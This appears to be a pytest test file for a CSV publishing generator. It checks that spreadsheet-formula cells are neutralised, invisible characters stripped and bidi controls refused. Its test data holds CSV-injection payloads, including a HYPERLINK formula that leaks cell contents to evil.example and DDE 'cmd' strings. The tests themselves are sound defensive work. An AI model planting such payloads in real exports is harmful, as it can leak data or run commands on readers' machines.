"""Text cells in published CSVs: no spreadsheet formulas, no invisible characters (generator/cells.py)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from generator.ingest import load
from generator.outputs import downloads
from generator.validate.project import validate_project

from .conftest import MINIMAL_FILES, MINIMAL_PLAN, ROOT, csv_text, make_package

#: What a spreadsheet reads as the start of a formula (OWASP "CSV injection"), also full-width.
FORMULA_START = tuple("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
#: A number as a plan prints it: a sign or comparator, digits, spaces, "." "," and "%" (or nothing).
NUMBER_AS_WRITTEN = set("=+-\u2212\uff1d\uff0b\uff0d0123456789 \u00a0\u202f.,%")


def starts_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: a formula start followed by more than a number as written.

    Deliberately looser than ``cells.neutralise`` (any mix of the number characters passes here),
    so the tests below check the published files against the rule, not against themselves."""
    if cell.startswith(("@", "\uff20", "\t", "\r")):
        return True
    return cell.startswith(FORMULA_START) and not set(cell) <= NUMBER_AS_WRITTEN


KEEP = ["-26328", "-26 328", "-26\u00a0328", "-26\u202f328", "\u221226 328", "=", "=0", "= 100%", "-0.4", "-3",
        "+5", "-", "\uff0d26 328", "13", "", "Väntetid i dagar", "'=1+1", " =1+1", "≤2"]
PREFIX = ["+ demografi", "- effektivisering", "=1+1", '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")',
          "+cmd|' /C calc'!A0", "@SUM(A1)", "\t=cmd", "\r=cmd", "-2+3+cmd|' /C calc'!A0", "=-5–10", "@",
          "\uff1dHYPERLINK(\"http://evil.example\")", "\uff0bcmd", "\uff0d cmd", "\uff20SUM(A1)", "-1e5", "=0x10"]


@pytest.mark.parametrize("text", KEEP)
def test_numbers_and_plain_text_stay_as_they_are(text: str):
    from generator.outputs.cells import neutralise

    assert neutralise(text) == text


@pytest.mark.parametrize("text", PREFIX)
def test_a_cell_that_could_start_a_formula_gets_a_leading_apostrophe(text: str):
    from generator.outputs.cells import neutralise

    assert neutralise(text) == "'" + text
    assert neutralise(neutralise(text)) == "'" + text  # once is enough


def test_invisible_characters_are_removed():
    from generator.outputs.cells import strip_invisible

    assert strip_invisible("Kortare\u200b väntetider\u200c\u200d\u2060\ufeff") == "Kortare väntetider"
    assert strip_invisible("\ufeffA\u00a0B") == "A\u00a0B"  # a no-break space is visible: it stays


def test_neutralise_csv_rewrites_every_cell_and_keeps_the_rest():
    from generator.outputs.cells import neutralise_csv

    text = ('id,text,amount\r\na,"+ demografi",-26 328\r\nb,"=HYPERLINK(""x"")\nrad två",=0\r\n'
            'c,\u200b=1+1,\ufeff-3\r\n')
    out = neutralise_csv(text)
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows == [["id", "text", "amount"], ["a", "'+ demografi", "-26 328"],
                    ["b", "'=HYPERLINK(\"x\")\nrad två", "=0"], ["c", "'=1+1", "-3"]]
    assert "\r" not in out and out.endswith("\n")
    assert neutralise_csv("") == ""


def _payload_package(tmp_path: Path) -> Path:
    files = dict(MINIMAL_FILES)
    files["indicators.csv"] = files["indicators.csv"].replace(
        "Väntetid i dagar", '"=HYPERLINK(""http://evil.example/?d=""&A1,""Klicka här"")"').replace(
        ",1,1,\n", ",1,1,@SUM(A1)\n")
    files["observations.csv"] = files["observations.csv"].replace(
        "vantetid,2022,utfall,T,,13,,13,,,", "vantetid,2022,utfall,T,,,,-cmd|' /C calc'!A0,,,\"+cmd|' /C calc'!A0\"")
    files["goals.csv"] = files["goals.csv"].replace("Kortare väntetider", "\u200b=1+1")
    files["budget_lines.csv"] = files["budget_lines.csv"].replace("Verksamhet A", "-2+3+cmd|' /C calc'!A0")
    files["budget_values.csv"] = csv_text(
        ["line_id", "column", "period", "value_type", "measure", "amount", "printed", "note"],
        [["a", "Budget 2024", "2024", "budget", "netto", "", "=1+1", "\t=cmd"],
         ["summa", "Budget 2024", "2024", "budget", "netto", "-30.4", "-30,4", ""]])
    for name, text in files.items():
        assert text != MINIMAL_FILES[name] or name in ("budget_tables.csv",), name
    return make_package(tmp_path, files=files)


def test_downloads_hold_no_cell_that_starts_a_formula(tmp_path: Path):
    folder = _payload_package(tmp_path)
    assert validate_project(tmp_path / "datapackages").ok  # such text is published, not rejected
    plan = load.load_plan(folder)
    files = downloads.render_downloads([plan])
    cells = [cell for name, text in files.items() if name.endswith(".csv")
             for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "-30.4" in cells and "-30400000" in cells  # numbers are numbers
    formulas = [cell for cell in cells if starts_formula(cell)]
    assert formulas == []
    assert "'=1+1" in cells and "'+cmd|' /C calc'!A0 -cmd|' /C calc'!A0" in cells  # the text is kept


# --- bidi controls are refused, zero-width characters are warned of and never published -----------

def test_zero_width_characters_are_a_warning_and_never_published(tmp_path: Path):
    files = {"goals.csv": MINIMAL_FILES["goals.csv"].replace("Kortare väntetider", "Kortare\u200b väntetider"),
             "indicators.csv": MINIMAL_FILES["indicators.csv"].replace("Väntetid i dagar", "Väntetid\u2060 i dagar\ufeff")}
    folder = make_package(tmp_path, files=files, plan={**MINIMAL_PLAN, "board": "Test\u200cnämnden",
                                                        "notes": ["Se\u200d bilaga"]})
    report = validate_project(tmp_path / "datapackages")
    assert report.ok
    assert sorted((p.code, p.file.split("/")[-1], p.row, p.field) for p in report.warnings) == [
        ("invisible-character", "datapackage.json", None, "plan.board"),
        ("invisible-character", "datapackage.json", None, "plan.notes[0]"),
        ("invisible-character", "datapackage.json", None, "title"),  # the package title names the board
        ("invisible-character", "goals.csv", 3, "title"),
        ("invisible-character", "indicators.csv", 2, "name")]
    plan = load.load_plan(folder)
    assert plan.goals[1].title == "Kortare väntetider" and plan.indicators[0].name == "Väntetid i dagar"
    assert plan.meta.board == "Testnämnden" and plan.meta.notes == ("Se bilaga",)
    files = downloads.render_downloads([plan])
    assert not [name for name, text in files.items() if any(ch in text for ch in "\u200b\u200c\u200d\u2060\ufeff")]


@pytest.mark.parametrize("char", ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069"])
def test_bidi_controls_are_refused_in_cells_metadata_and_table_titles(tmp_path: Path, char: str):
    def patch(descriptor):
        descriptor["resources"][0]["title"] = f"Mål{char}"

    make_package(tmp_path / "a", plan={**MINIMAL_PLAN, "title": f"Plan {char}2024"}, descriptor_patch=patch)
    report = validate_project(tmp_path / "a" / "datapackages")
    assert sorted((p.code, p.field) for p in report.errors) == [
        ("bidi-control", "plan.title"),
        ("bidi-control", "resources[0].title"),
        ("bidi-control", "title")]  # the package title repeats the plan title
    assert f"U+{ord(char):04X}" in report.errors[0].message("sv")

    files = {"observations.csv": MINIMAL_FILES["observations.csv"].replace("≤2,,,", f"≤2,,,{char}anmärkning")}
    make_package(tmp_path / "b", files=files)
    report = validate_project(tmp_path / "b" / "datapackages")
    assert [(p.code, p.file.split("/")[-1], p.row, p.field) for p in report.errors] == [
        ("bidi-control", "observations.csv", 3, "note")]


def test_a_cell_longer_than_pythons_default_csv_limit_is_read_in_a_fresh_process():
    """Python's csv stops at 131 072 characters a cell unless told otherwise; frictionless raises that
    limit for the whole process when it is imported, so a reader that runs before it, or in a
    process that never imports it (a build whose plans all come from the validation cache), must
    not depend on it (generator/__init__.py sets it)."""
    import subprocess
    import sys
    code = (
        "import sys\n"
        "from generator.outputs import cells\n"
        "from generator.validate.values import _number_cells_of\n"
        "assert 'frictionless' not in sys.modules\n"
        "text = 'id,note\\nx,' + '=' + 'a' * 140_000 + '\\x07\\n'\n"
        "out = cells.neutralise_csv(text)\n"
        "assert out.splitlines()[1].startswith(\"x,'=\") and len(out) > 140_000\n"
        "found = [p.code for p in _number_cells_of(text, {}, 'p/t.csv', set())]\n"
        "assert found == ['control-character'], found\n"
        "print('ok')\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT)
    assert done.returncode == 0 and done.stdout.strip() == "ok", done.stderr[-2000:]
